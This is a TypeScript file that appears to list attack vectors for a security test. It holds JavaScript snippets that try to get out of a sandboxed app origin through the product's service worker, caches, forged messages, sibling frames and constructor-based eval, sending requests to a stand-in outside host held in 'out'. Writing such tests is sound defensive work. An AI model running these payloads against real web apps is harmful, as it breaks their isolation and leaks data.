import type { Vector } from "./vector.ts";

/** The worker may get the script again, so a message may reach it before it is ready. */
const WORKER = `const { active } = await (async () => { await navigator.serviceWorker.register("/__offline.js").catch(() => {}); return navigator.serviceWorker.ready; })()`;

function unproven(vectors: Array<Omit<Vector, "worksUnguarded">>) {
  return vectors.map((vector): Vector => ({ ...vector, worksUnguarded: false }));
}

/** Ways through what the product has on an app's origin: its worker, pages and stand-ins. An unguarded page has none. */
export const HELPERS: Array<Vector> = unproven([
  { name: "the worker, told an address", script: `${WORKER}; active.postMessage([out + "/told"])` },
  {
    name: "the worker, told an object",
    script: `${WORKER}; active.postMessage({ urls: [out + "/told"], url: out + "/told" })`,
  },
  {
    name: "the worker, told by a worker",
    script: `new Worker(URL.createObjectURL(new Blob(["navigator.serviceWorker?.ready.then((r) => r.active.postMessage(['" + out + "/w']))"])))`,
  },
  {
    name: "the worker, told by an inner frame",
    script: `const w = add("iframe", {}).contentWindow; (await w.navigator.serviceWorker.getRegistration("/")).active.postMessage([out + "/inner"])`,
  },
  {
    name: "the worker, told from another address",
    script: `history.pushState(null, "", "/"); ${WORKER}; active.postMessage([out + "/pushed"])`,
  },
  {
    name: "the worker, with a port",
    script: `${WORKER}; active.postMessage([out + "/port"], [new MessageChannel().port2])`,
  },
  {
    name: "the worker by another query",
    script: `await navigator.serviceWorker.register("/__offline.js?hosts=" + encodeURIComponent(out))`,
  },
  {
    name: "the worker of an earlier version",
    script: `await navigator.serviceWorker.register("/__offline.js?00"); (await navigator.serviceWorker.ready).active.postMessage([out + "/earlier"])`,
  },
  {
    name: "the worker of another scope",
    script: `(await navigator.serviceWorker.register("/__offline.js", { scope: "/x" })).installing?.postMessage([out + "/scope"])`,
  },
  {
    name: "the worker's preload",
    script: `${WORKER}; const r = await navigator.serviceWorker.ready; await r.navigationPreload.setHeaderValue(out); await r.navigationPreload.enable()`,
  },
  {
    name: "the worker's push service",
    script: `${WORKER}; await (await navigator.serviceWorker.ready).pushManager.subscribe({ userVisibleOnly: true })`,
  },
  {
    name: "the worker's content index",
    script: `${WORKER}; await (await navigator.serviceWorker.ready).index.add({ id: "x", title: "x", url: out, icons: [{ src: out + "/icon" }] })`,
  },
  {
    name: "a kept file of its own",
    script: `await (await caches.open("files")).put(out + "/x.js", new Response("fetch('" + out + "/kept')")); add("script", { src: out + "/x.js" })`,
  },
  {
    name: "the timing of resources",
    script: `performance.getEntriesByType = () => [{ name: out + "/entry" }]; postMessage({ type: "offline", opensOffline: true })`,
  },
  {
    name: "a message as from the product",
    script: `dispatchEvent(new MessageEvent("message", { data: { type: "read-data", reader: "fetch('" + out + "/reader')" }, origin: site, source: parent, ports: [new MessageChannel().port1] }))`,
  },
  {
    name: "the memory's stand-ins",
    script: `if (indexedDB.constructor.name === "FDBFactory") indexedDB.constructor.constructor("fetch('" + out + "/memory')")()`,
  },
  {
    name: "a sibling frame",
    script: `for (let at = 0; at < parent.length; at++) { const other = parent[at]; if (other !== self && other.document) { leak("sibling"); await other.fetch(out + "/sibling", { mode: "no-cors" }); } }`,
  },
  {
    name: "a sibling frame, for a while",
    script: `for (let n = 0; n < 100; n++) { for (let at = 0; at < parent.length; at++) try { if (parent[at] !== self && parent[at].document) leak("sibling"); } catch {} await pause(20); }`,
  },
  {
    name: "its own text file in a frame",
    script: `add("iframe", { src: "/robots.txt" }); await pause(300); window[window.length - 1].document; await window[window.length - 1].fetch(out + "/robots", { mode: "no-cors" })`,
  },
  {
    name: "the page that keeps apps, in a frame",
    script: `add("iframe", { src: "/__keep" }); await pause(300); window[window.length - 1].document; await window[window.length - 1].fetch(out + "/keep", { mode: "no-cors" })`,
  },
  {
    name: "the page that clears, by a form",
    script: `add("form", { method: "post", action: "/__clear" }).submit(); await pause(300)`,
  },
]);
